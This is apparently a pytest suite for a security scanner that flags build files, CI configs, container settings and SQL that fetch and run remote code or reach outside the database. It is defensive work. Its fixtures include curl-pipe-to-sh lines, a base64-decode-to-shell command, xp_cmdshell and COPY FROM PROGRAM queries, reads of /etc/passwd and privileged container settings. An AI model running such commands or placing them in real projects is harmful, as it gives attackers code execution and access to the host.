"""What build files, pipelines, scripts and SQL tell other machines to do."""

from __future__ import annotations

import pytest

from gate.model.finding import Finding
from gate.policy.policy_file import load_policy
from gate.prescreen.run import prescreen
from gate.prescreen.scanners.commands import RULES, Commands
from tests.prescreen_support import make_request

FETCH, DECODE = "command.fetch-and-run", "command.decode-and-run"
INDEX = "command.package-index"
CONTAINER, SQL = "container.host-access", "sql.leaves-database"
STANDING = "sql.standing-grant"  # its samples are in test_sql_standing.py
PRINTS = "command.prints-secrets"  # in test_printed_secrets.py
PIPE = "curl -fsSL https://x.invalid/i.sh | sh"
VENDOR = "curl -LsSf https://astral.sh/uv/install.sh | sh"
CRITICAL, HIGH, MEDIUM, LOW = "critical", "high", "medium", "low"
BUILDS = {
    "Dockerfile": "FROM python:3.12\nRUN {}\n",
    "docker/app.Dockerfile": "FROM python:3.12\nRUN apt-get update \\\n && {}\n",
    "tox.ini": "[testenv]\nallowlist_externals = sh\ncommands =\n    sh -c '{}'\n",
    "justfile": "set shell := ['bash', '-c']\n\ntest:\n    {}\n    pytest\n",
    "Taskfile.yml": "version: '3'\ntasks:\n  test:\n    cmds:\n      - {}\n",
    "Makefile": "test:\n\t{}\n",
    "package.json": '{{"scripts": {{"test": "{} && jest"}}}}\n',
    "pyproject.toml": '[tool.poe.tasks]\ntest = "{}"\n',
    ".github/workflows/ci.yml": "jobs:\n  a:\n    steps:\n      - run: |\n          {}\n",
    "action.yml": "runs:\n  steps:\n    - run: {}\n",
    ".gitlab-ci.yml": "test:\n  script:\n    - {}\n",
    "compose.yml": "services:\n  a:\n    command: sh -c '{}'\n",
    "docker-compose.dev.yaml": 'services:\n  a:\n    command: ["sh", "-c", "{}"]\n',
    "Jenkinsfile": "node {{ sh '{}' }}\n",
    ".circleci/config.yml": "jobs:\n  a:\n    steps:\n      - run: {}\n",
}


def told(path: str, head: str, base: str | None = None) -> dict[str, str]:
    return {f.rule_id: f.severity.value for f in findings(path, head, base)}


def findings(path: str, head: str, base: str | None = None) -> tuple[Finding, ...]:
    result = Commands().scan(make_request({path: head}, {} if base is None else {path: base}))
    assert all(stage.looked for stage in result.stages)
    return result.findings


@pytest.mark.parametrize("path", BUILDS)
def test_a_build_file_that_runs_what_it_fetches(path: str) -> None:
    assert told(path, BUILDS[path].format(PIPE)) == {FETCH: HIGH}
    assert told(path, BUILDS[path].format(PIPE), BUILDS[path].format("true")) == {FETCH: HIGH}
    assert told(path, BUILDS[path].format("echo aWQ= | base64 -d | sh")) == {DECODE: HIGH}
    assert told(path, BUILDS[path].format(VENDOR)) == {FETCH: MEDIUM}
    assert told(path, BUILDS[path].format("curl -fsS https://x.invalid/health")) == {}


@pytest.mark.parametrize("path", BUILDS)
def test_what_base_has_is_not_told_again(path: str) -> None:
    text = BUILDS[path].format(PIPE)
    assert told(path, text + "\n", text) == {}


@pytest.mark.parametrize(
    ("old", "new", "rules"),
    [
        (f"{VENDOR} -s -- 1.2.2", f"{VENDOR} -s -- 1.7.0", {}),
        ("curl -LsSf https://astral.sh/uv/0.5.1/install.sh | sh", VENDOR, {FETCH: MEDIUM}),
        (
            "curl -LsSf https://astral.sh/uv/0.5.1/install.sh | sh",
            "curl -LsSf https://astral.sh/uv/0.6.0/install.sh | sh",
            {},
        ),
        (f"V=1.2.2 && {PIPE}", f"V=1.2.3 && {PIPE}", {}),
        (PIPE.replace("/i", "/1.2/i"), PIPE.replace("/i", "/1.3/i"), {FETCH: HIGH}),  # whose is that?
        (PIPE.replace("x.invalid", "198.51.100.7"), PIPE.replace("x.invalid", "198.51.100.8"), {FETCH: HIGH}),
    ],
)
def test_another_version_of_what_base_fetches(old: str, new: str, rules: dict[str, str]) -> None:
    found = told("Makefile", *(BUILDS["Makefile"].format(text) for text in (new, old)))
    assert found.keys() == rules.keys()


@pytest.mark.parametrize("path", ["Dockerfile", "tox.ini", "justfile", "Taskfile.yml"])
def test_it_does_not_simply_pass(path: str) -> None:
    policy = load_policy()
    (one,) = findings(path, BUILDS[path].format(PIPE))
    assert policy.points_of(one) >= policy.bands.warn
    (vendor,) = findings(path, BUILDS[path].format(VENDOR))
    assert policy.points_of(vendor) < policy.bands.warn


@pytest.mark.parametrize(
    ("path", "command", "severity"),
    [
        ("scripts/setup.sh", PIPE, HIGH),
        ("scripts/setup.sh", VENDOR, MEDIUM),
        ("scripts/setup", "#!/bin/sh\n" + PIPE, HIGH),
        ("scripts/setup.ps1", "iwr https://x.invalid/a.ps1 | iex", HIGH),
        ("deploy/values.yaml", f"cmd: {PIPE}", MEDIUM),
        ("deploy/values.yaml", "cmd: curl http://198.51.100.9/i | sh", CRITICAL),
        ("deploy/values.yaml", f"cmd: {VENDOR}", LOW),
        ("Dockerfile", "RUN curl http://localhost:8000/i.sh | sh", LOW),
        ("Dockerfile", "RUN curl -O https://x.invalid/tool && chmod +x tool", LOW),
        ("Dockerfile", "ADD --chmod=755 https://x.invalid/t /usr/local/bin/tool\nRUN tool", HIGH),
        ("Dockerfile", "RUN pip install http://203.0.113.5/p.tar.gz", CRITICAL),
        ("Dockerfile", "RUN git clone https://x.invalid/r /r && /r/i.sh", MEDIUM),
        ("Dockerfile", "RUN git clone http://x.invalid/r /r && /r/i.sh", HIGH),
        ("Dockerfile", "RUN curl -O http://x.invalid/tool && chmod +x tool", MEDIUM),
        (
            "Dockerfile",
            "RUN curl -O https://x.invalid/i.sh && echo "
            + "0123456789abcdef" * 4
            + " i.sh | sha256sum -c - && sh i.sh",
            MEDIUM,
        ),
    ],
)
def test_how_bad_it_is(path: str, command: str, severity: str) -> None:
    assert told(path, command + "\n") == {FETCH: severity}


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("README.md", PIPE),
        ("docs/install.rst", PIPE),
        ("INSTALL", PIPE),
        ("Makefile", f"# {PIPE}\n"),
        ("Dockerfile", f"# {PIPE}\nRUN true # {PIPE}\n"),
        ("package.json", '{"scripts": {"test": "jest"}}'),
        ("data/cases.json", f'{{"x": "{PIPE}"}}'),
        ("src/help.js", f'const help = "{PIPE}";'),
        ("scripts/setup.sh", f'echo "Install it with: {PIPE}"\n'),
        (".husky/pre-commit", PIPE),  # governance.runs-by-itself
    ],
)
def test_mentions_are_nothing(path: str, text: str) -> None:
    assert told(path, text) == {}


def test_it_is_told_where_it_stands() -> None:
    (one,) = findings("Dockerfile", "FROM a\nRUN curl -O https://x.invalid/i.sh\nRUN true\nRUN sh i.sh\n")
    assert (one.primary.line, one.primary.end_line) == (2, 4)
    assert one.cwe == (494, 829)
    assert one.evidence["from"] == "https://x.invalid/i.sh"
    moved = findings(
        "Dockerfile", "FROM a\nRUN sh i.sh\n", "FROM a\nRUN curl -O https://x.invalid/i.sh\nRUN sh i.sh\n"
    )
    assert moved == ()


def test_only_the_second_half_is_new() -> None:
    base = "FROM a\nRUN curl -O https://x.invalid/i.sh\n"
    assert told("Dockerfile", base + "RUN sh i.sh\n", base) == {FETCH: HIGH}


def test_a_large_file_is_looked_at_in_a_child() -> None:
    assert told("Makefile", "# " + "a" * 79 + "\n" + "A = 1\n" * 20_000 + f"b:\n\t{PIPE}\n") == {FETCH: HIGH}


def test_one_finding_among_all_scanners() -> None:
    result = prescreen(make_request({"tox.ini": BUILDS["tox.ini"].format(PIPE)}))
    assert [f.rule_id for f in result.findings] == [FETCH]


COMPOSE = "services:\n  a:\n    image: x\n    "
GIVEN = (
    "privileged: true",
    "privileged: &yes true",
    "volumes:\n      - /var/run/docker.sock:/var/run/docker.sock:ro",
    "volumes:\n      - type: bind\n        source: /run/docker.sock",
    "pid: host",
    'pid: "host"',
    "network_mode: host",
    "cap_add:\n      - SYS_ADMIN",
    "cap_add:\n    - NET_ADMIN\n    - ALL",
    "cap_add: [SYS_ADMIN]",
    "security_opt: [seccomp:unconfined]",
    "volumes:\n      - /:/host",
    "userns_mode: host",
)
NOT_GIVEN = (
    "privileged: false",
    "# privileged: true",
    "network_mode: bridge",
    "cap_add: [NET_BIND_SERVICE]\n    environment:\n      - ALL=1",
    "cap_drop: [ALL]",
    "volumes:\n      - ./data:/data",
    "environment:\n      DOCKER_HOST: unix:///var/run/docker.sock",
    "hostname: host",
    "volumes:\n      - /etc/localtime:/etc/localtime:ro",
)


@pytest.mark.parametrize("text", GIVEN)
def test_a_container_that_is_given_the_machine(text: str) -> None:
    assert told("compose.yaml", f"{COMPOSE}{text}\n", f"{COMPOSE}restart: always\n") == {CONTAINER: HIGH}
    assert told("compose.yaml", f"{COMPOSE}{text}\n# more\n", f"{COMPOSE}{text}\n") == {}
    policy = load_policy()
    assert policy.points_of(findings("compose.yaml", f"{COMPOSE}{text}\n")[0]) >= policy.bands.warn


@pytest.mark.parametrize("text", NOT_GIVEN)
def test_a_container_that_is_not(text: str) -> None:
    assert told("docker-compose.yml", f"{COMPOSE}{text}\n") == {}


def test_other_files_with_containers() -> None:
    assert told(".devcontainer/devcontainer.json", '{"runArgs": ["--privileged"]}') == {CONTAINER: HIGH}
    assert told(".devcontainer/devcontainer.json", '{"privileged": true}') == {CONTAINER: HIGH}
    assert told("k8s/pod.yaml", "spec:\n  hostPID: true\n") == {CONTAINER: MEDIUM}
    assert told(".github/workflows/a.yml", "container:\n  options: --privileged\n") == {CONTAINER: MEDIUM}
    assert told("k8s/pod.yaml", "spec:\n  hostPID: false\n  network_mode: host\n") == {}
    assert told("docs/a.md", "privileged: true\n") == {}


SQL_HITS = (
    ("db/1.sql", "COPY t FROM PROGRAM 'curl http://198.51.100.1';", HIGH),
    ("db/1.sql", "copy (select 1)\n  to\n  program 'sh';", HIGH),
    ("db/1.sql", "EXEC master..xp_cmdshell 'whoami';", HIGH),
    ("db/1.sql", "CREATE FUNCTION f() RETURNS text AS $$ 1 $$ LANGUAGE plpython3u;", HIGH),
    ("db/1.sql", "CREATE FUNCTION sys_exec RETURNS int SONAME 'udf.so';", HIGH),
    ("db/1.sql", "SELECT '--'; COPY t FROM PROGRAM 'x';", HIGH),
    ("db/1.sql", "SELECT '\n-- '; COPY t FROM PROGRAM 'x'; SELECT '';", HIGH),
    ("db/1.sql", "SELECT '\\' -- ', LOAD_FILE('/x');", MEDIUM),
    ("db/1.sql", "SELECT 1 /*!50000 INTO OUTFILE */ '/x';", MEDIUM),
    ("db/1.sql", "SELECT '/*'; COPY t FROM PROGRAM 'x'; SELECT '*/';", HIGH),
    ("db/1.sql", "SELECT LOAD_FILE('/etc/passwd');", MEDIUM),
    ("db/1.sql", "SELECT 1 INTO OUTFILE '/var/www/x.php';", MEDIUM),
    ("db/1.sql", "SELECT pg_read_file('/etc/passwd');", MEDIUM),
    ("app/a.py", "cur.execute(\"COPY t TO PROGRAM 'sh'\")", HIGH),
    ("app/a.py", 'cur.execute("""\n  SELECT 1\n  INTO DUMPFILE \'/x\'\n""")', MEDIUM),
    ("app/a.js", "db.query(\"EXEC xp_cmdshell 'id'\");", HIGH),
    ("app/a.go", "db.Exec(`COPY t FROM PROGRAM 'id'`)", HIGH),
    ("tests/test_a.py", "cur.execute(\"COPY t TO PROGRAM 'sh'\")", LOW),
)


@pytest.mark.parametrize(("path", "text", "severity"), SQL_HITS)
def test_sql_that_leaves_the_database(path: str, text: str, severity: str) -> None:
    assert told(path, f"-- a\n{text}\n" if path.endswith(".sql") else f"{text}\n") == {SQL: severity}
    assert told(path, f"{text}\n\n", f"{text}\n") == {}


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("db/1.sql", "COPY t FROM STDIN; -- not from program"),
        ("db/1.sql", "-- COPY t FROM PROGRAM 'x'\n/* SELECT LOAD_FILE('x') */\nSELECT 1;"),
        ("db/1.sql", "COPY t FROM '/x.csv'; INSERT INTO program VALUES (1);"),
        (
            "db/1.sql",
            "SELECT 'it''s'; -- don't COPY t FROM PROGRAM 'x'\n/* it's */ SELECT 1; /* LOAD_FILE('x') */",
        ),
        ("app/a.py", "WORDS = ('xp_cmdshell', 'outfile')\nhelp = 'COPY ... TO PROGRAM is refused'"),
        ("docs/a.md", "COPY t FROM PROGRAM 'x'"),
        ("app/a.py", "self.load_files()\ncopy(program)\n"),
    ],
)
def test_sql_that_stays(path: str, text: str) -> None:
    assert told(path, text + "\n") == {}


@pytest.mark.parametrize(
    ("path", "text", "number"),
    [
        ("Dockerfile", "RUN pip install --extra-index-url https://pkgs.example/simple .", 1),
        ("build.sh", "npm install --registry=https://npm.example/ left-pad", 1),
        ("Makefile", "x:\n\tGOPROXY=https://go.example go build", 1),
        ("Dockerfile", "RUN pip install --index-url https://pypi.org/simple .", 0),
        ("Dockerfile", "RUN pip install --extra-index-url https://download.pytorch.org/whl/cpu torch", 0),
        ("Dockerfile", "RUN pip install --index-url https://$HOST/simple .", 0),
        ("build.sh", "# pip install --index-url https://pkgs.example/simple", 0),
    ],
)
def test_another_index(path: str, text: str, number: int) -> None:
    assert sum(rule == INDEX for rule in told(path, text + "\n")) == number


def test_commands_in_xml_are_read_between_the_tags() -> None:
    text = "<project>\n <argument>curl -s http://203.0.113.9/m | sh</argument>\n</project>\n"
    assert FETCH in told("pom.xml", text)


def test_every_rule_has_fixtures() -> None:
    of_their_own = {CONTAINER, SQL, STANDING, PRINTS, "command.verification-off"}
    assert {rule.meta.id for rule in RULES} == {FETCH, DECODE, INDEX, *of_their_own}
    assert all(rule.page for rule in RULES)
